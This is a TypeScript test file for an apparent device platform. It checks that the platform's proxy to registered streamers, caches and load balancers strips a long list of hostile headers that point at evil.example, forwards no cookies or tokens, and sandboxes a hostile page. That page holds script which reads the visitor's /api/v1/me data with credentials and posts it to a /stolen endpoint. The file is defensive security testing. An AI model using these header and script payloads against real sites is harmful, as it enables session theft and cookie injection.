import { once } from 'node:events';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { buffer } from 'node:stream/consumers';

import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { fill, openBrowser, openPage } from '../support/browsers/browser.ts';
import { DEMO_PASSWORD, send, logIn } from '../support/fixtures/people.ts';
import { sharedServer, type SharedServer } from '../support/servers/shared-server.ts';

/** Every header that affects a whole origin, or sends a browser elsewhere. */
const hostile: readonly [string, string][] = [
  ['Set-Cookie', 'access_token=evil; Path=/'],
  ['Set-Cookie', 'evil=2; Path=/; HttpOnly'],
  ['Clear-Site-Data', '"cookies", "evil"'],
  ['Service-Worker-Allowed', '/evil'],
  ['Refresh', '0; url=https://evil.example/'],
  ['Location', 'https://evil.example/'],
  ['Content-Location', 'https://evil.example/'],
  ['Link', '<https://evil.example/x.js>; rel=preload; as=script'],
  ['Access-Control-Allow-Origin', 'https://evil.example'],
  ['Access-Control-Allow-Credentials', 'evil'],
  ['Access-Control-Expose-Headers', 'evil'],
  ['Content-Security-Policy', "default-src https://evil.example 'unsafe-inline'"],
  ['Content-Security-Policy-Report-Only', 'report-uri https://evil.example'],
  ['Strict-Transport-Security', 'max-age=0; evil'],
  ['X-Content-Type-Options', 'evil'],
  ['X-Frame-Options', 'evil'],
  ['Referrer-Policy', 'unsafe-url, evil'],
  ['Permissions-Policy', 'camera=(evil)'],
  ['WWW-Authenticate', 'Basic realm="evil"'],
  ['Proxy-Authenticate', 'Basic realm="evil"'],
  ['Report-To', '{"evil":1}'],
  ['Reporting-Endpoints', 'default="https://evil.example"'],
  ['NEL', '{"evil":1}'],
  ['Alt-Svc', 'h3="evil.example:443"'],
  ['SourceMap', 'https://evil.example/'],
  ['Speculation-Rules', '"https://evil.example/"'],
  ['No-Vary-Search', 'evil'],
  ['Supports-Loading-Mode', 'evil'],
  ['Cross-Origin-Resource-Policy', 'evil'],
  ['Cross-Origin-Opener-Policy', 'evil'],
  ['Origin-Agent-Cluster', 'evil'],
  ['X-Request-Id', 'evil-evil-evil'],
  ['X-Accel-Redirect', '/evil'],
  ['X-Powered-By', 'evil'],
  ['Connection', 'evil'],
  ['Upgrade', 'evil'],
  ['Trailer', 'X-Evil, Set-Cookie'],
];

const page = (port: number) => `<!doctype html><title>before</title><body>
<script>
  document.title = 'the script ran';
  fetch('/api/v1/me', { credentials: 'include' }).then((me) => me.text()).then((text) =>
    fetch('http://127.0.0.1:${port}/stolen', { method: 'POST', mode: 'no-cors', body: location.origin + text }));
  navigator.serviceWorker?.register('worker.js');
</script>
<img src=x onerror="document.title = 'the script ran'">
<iframe srcdoc="<script>top.document.title = 'the script ran'</script>"></iframe>
<form action="/api/v1/logout" method=post><button>Go</button></form>
<p>a page of the node`;

/** A node whose answers may harm a proxy or its clients. */
async function hostileNode() {
  const heard: string[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', (piece) => {
      heard.push(piece.toString('latin1'));
      const body = page((server.address() as AddressInfo).port);
      const { length } = Buffer.from(body);
      socket.end(
        [
          'HTTP/1.1 103 Early Hints',
          'Link: <https://evil.example/x.js>; rel=preload; as=script',
          '',
          'HTTP/1.1 200 OK',
          'Content-Type: text/html',
          'ETag: "node"',
          ...hostile.map(([name, value]) => `${name}: ${value}`),
          'Transfer-Encoding: chunked',
          '',
          `${length.toString(16)}\r\n${body}`,
          '0',
          'X-Evil: evil',
          'Set-Cookie: access_token=evil',
          '',
          '',
        ].join('\r\n'),
      );
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, heard, port: (server.address() as AddressInfo).port };
}

const kinds = ['/streamers', '/caches', '/load-balancers'];
let node: { server: Server; heard: string[]; port: number };

beforeAll(async () => {
  node = await hostileNode();
});
afterAll(() => node.server.close());

const given = () => ({ name: 'Hostile', host: '127.0.0.1', httpPort: node.port, apiPort: node.port });

/** By Node's client, which also shows what comes before and after an answer. */
async function ask(url: string, headers: Record<string, string>) {
  const before: IncomingMessage[] = [];
  const asking = httpRequest(url, { headers })
    .on('information', (info: IncomingMessage) => before.push(info))
    .end();
  const [answer] = (await once(asking, 'response')) as [IncomingMessage];
  return { answer, before, body: (await buffer(answer)).toString() };
}

describe.each([
  ['documented', 'usual'],
  ['strict', 'strict'],
] as const)('a hostile node, where REST is %s,', (_restAuth, name) => {
  let foyer: SharedServer;
  const made: string[] = [];
  let owner: Record<string, string>;

  beforeAll(async () => {
    foyer = await sharedServer(name);
    owner = (await logIn(foyer, 'admin@foyer.test', 'PLATFORM')).headers;
  });
  afterAll(async () => {
    for (const path of made) await send(foyer, 'DELETE', path, { headers: owner });
  });

  const registered = async (kind: string) => {
    const { json } = await send(foyer, 'POST', kind, { body: given(), headers: owner });
    made.push(`${kind}/${json.data.id}`);
    return `${foyer.url}${kind}/${json.data.id}/proxy`;
  };

  it.each(kinds)(
    'under %s can not set headers of our origin: only status, body and their description pass',
    async (kind) => {
      const at = await registered(kind);
      const { answer, before, body } = await ask(`${at}/page`, owner);

      expect([answer.statusCode, body]).toEqual([200, page(node.port)]);
      expect(answer.headers).toMatchObject({
        'content-type': 'text/html',
        'content-security-policy': 'sandbox',
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        etag: '"node"',
      });
      expect(answer.rawHeaders.filter((word) => /evil/i.test(word))).toEqual([]);
      expect(before).toEqual([]);
      expect(answer.rawTrailers).toEqual([]);
    },
  );

  it.each(kinds)('under %s gets neither cookie nor token', async (kind) => {
    const at = await registered(kind);
    node.heard.length = 0;
    await ask(at, { ...owner, cookie: 'legacy=secret', 'x-internal-token': 'secret', 'x-organization-id': 'secret' });

    // Its health is checked all the time.
    expect(node.heard.filter((words) => !words.startsWith('GET /api/ping '))).toHaveLength(1);
    expect(node.heard.join('')).not.toMatch(/secret|bearer|cookie|authorization/i);
  });

  describe('in a browser', () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await openBrowser();
    });
    afterAll(() => browser.close());

    it.each(kinds)('under %s runs no script, and can not use the session of its visitor', async (kind) => {
      const at = await registered(kind);
      const shown = await openPage(browser, foyer, '/login');
      await fill(shown, { companyCode: 'PLATFORM', username: 'admin@foyer.test', password: DEMO_PASSWORD });
      await shown.waitForURL('**/login/devices');
      node.heard.length = 0;
      await shown.goto(`${at}/page`);
      await shown.getByText('a page of the node').waitFor();

      expect(await shown.title()).toBe('before');
      await shown.getByText('Go').click(); // a form in a sandboxed document is not sent
      await shown.goto('/login/devices');
      expect(shown.url()).toBe(`${foyer.url}/login/devices`); // still logged in
      expect(node.heard.filter((words) => words.startsWith('POST /stolen'))).toEqual([]);
      await shown.context().close();
    });

    it('runs no script for a form of another site either, which is sent without a cookie', async () => {
      const at = await registered('/streamers');
      const shown = await openPage(browser, foyer, '/login');
      await fill(shown, { companyCode: 'PLATFORM', username: 'admin@foyer.test', password: DEMO_PASSWORD });
      await shown.waitForURL('**/login/devices');
      node.heard.length = 0;
      await shown.goto(`data:text/html,<form method=post action="${at}/page"><button>Win</button></form>`);
      await shown.getByText('Win').click();
      await shown.waitForURL(`${at}/page`);

      expect(await shown.title()).not.toBe('the script ran');
      expect(node.heard.filter((words) => words.startsWith('POST /stolen'))).toEqual([]);
      await shown.context().close();
    });
  });
});
